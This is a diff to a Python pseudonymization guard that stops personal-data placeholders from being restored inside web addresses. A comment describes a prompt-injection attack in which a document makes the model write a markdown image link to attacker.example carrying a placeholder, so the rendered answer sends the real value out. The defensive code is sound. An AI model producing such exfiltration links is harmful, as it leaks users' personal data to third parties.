@@ -29,12 +29,15 @@ from egide.guard.vault import Vault
 
 __all__ = [
     "MAX_PLACEHOLDER_CHARS",
+    "LINK_LOOKBACK",
     "PlaceholderSpan",
     "Pseudonymized",
     "StreamRestorer",
     "pseudonymize",
     "pseudonymize_spans",
+    "in_link",
     "personal_in_order",
+    "placeholders_in_links",
     "restore",
 ]
 
@@ -137,6 +140,30 @@ def _canonical(match: re.Match[str]) -> str:
     return f"[{name.upper().replace(' ', '_')}_{int(match.group('number'))}]"
 
 
+# A placeholder written inside a web address is never restored: a document can instruct the
+# model to write "![](https://attacker.example/?q=[NIR_1])", and whoever renders the answer (a
+# business application, a mail client) would then send the value to that address. The address
+# is the run of non-space characters before the placeholder; past this many characters without
+# a space, the run is treated as an address too (natural text has spaces).
+LINK_LOOKBACK = 2048
+
+
+def in_link(text: str, at: int) -> bool:
+    """Is position ``at`` of ``text`` inside a web address ("…://…" or "www.…")?"""
+    start = at
+    while start > 0 and not text[start - 1].isspace():
+        start -= 1
+        if at - start >= LINK_LOOKBACK:
+            return True
+    run = text[start:at]
+    return "://" in run or "www." in run.lower()
+
+
+def placeholders_in_links(text: str) -> int:
+    """How many placeholder-shaped strings of ``text`` sit inside a web address."""
+    return sum(1 for match in _PLACEHOLDER_RE.finditer(text) if in_link(text, match.start()))
+
+
 def _restore_until(buffer: str, start: int, limit: int, vault: Vault) -> tuple[str, int]:
     """Restored ``buffer[start:limit]``, and where it stopped.
 
@@ -153,7 +180,7 @@ def _restore_until(buffer: str, start: int, limit: int, vault: Vault) -> tuple[s
             limit = match.start()
             break
         value = vault.original(_canonical(match))
-        if value is not None:
+        if value is not None and not in_link(buffer, match.start()):
             pieces.append(buffer[position : match.start()])
             pieces.append(value)
             position = match.end()
@@ -196,7 +223,9 @@ class StreamRestorer:
     def __init__(self, vault: Vault) -> None:
         self._vault = vault
         self._pending = ""
-        self._context = ""  # last character emitted, for word boundaries
+        # What was emitted last: its final character for word boundaries, and the run of
+        # non-space characters it ends with (bounded), to tell whether a web address is open.
+        self._context = ""
 
     @property
     def held(self) -> int:
@@ -223,7 +252,10 @@ class StreamRestorer:
     def _emit(self, buffer: str, start: int, limit: int) -> str:
         out, stop = _restore_until(buffer, start, limit, self._vault)
         self._pending = buffer[stop:]
-        self._context = buffer[stop - 1] if stop > 0 else ""
+        run = stop
+        while run > 0 and stop - run < LINK_LOOKBACK and not buffer[run - 1].isspace():
+            run -= 1
+        self._context = buffer[min(run, max(stop - 1, 0)) : stop]
         return out
 
     def feed(self, chunk: str) -> str:
